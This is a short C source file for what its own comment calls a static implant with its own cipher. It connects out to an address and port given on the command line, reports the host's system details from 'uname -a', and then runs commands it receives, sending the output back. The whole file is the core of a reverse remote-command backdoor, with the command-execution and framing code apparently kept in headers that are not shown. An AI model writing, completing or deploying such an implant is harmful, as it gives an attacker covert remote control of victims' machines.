/*
 * AN0401: a static implant with a cipher of its own: says that it is there, then answers commands.
 * usage: command tcp|udp ADDRESS PORT
 */
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "answers.h"
#include "frames.h"
#include "link.h"

int main(int argc, char **argv)
{
	static char text[ANSWER_MAX];
	char command[256];
	struct frames f;
	int datagrams;
	size_t len;

	if (argc != 4)
		return 64;
	datagrams = strcmp(argv[1], "udp") == 0;
	frames_begin(&f, link_open(argv[2], argv[3], datagrams ? SOCK_DGRAM : SOCK_STREAM), datagrams);
	len = answer("uname -a", text);
	frames_send(&f, text, len);
	while (frames_receive(&f, command, sizeof(command)) >= 0) {
		len = answer(command, text);
		if (len == 0)
			return 0;
		frames_send(&f, text, len);
	}
	return 1;
}
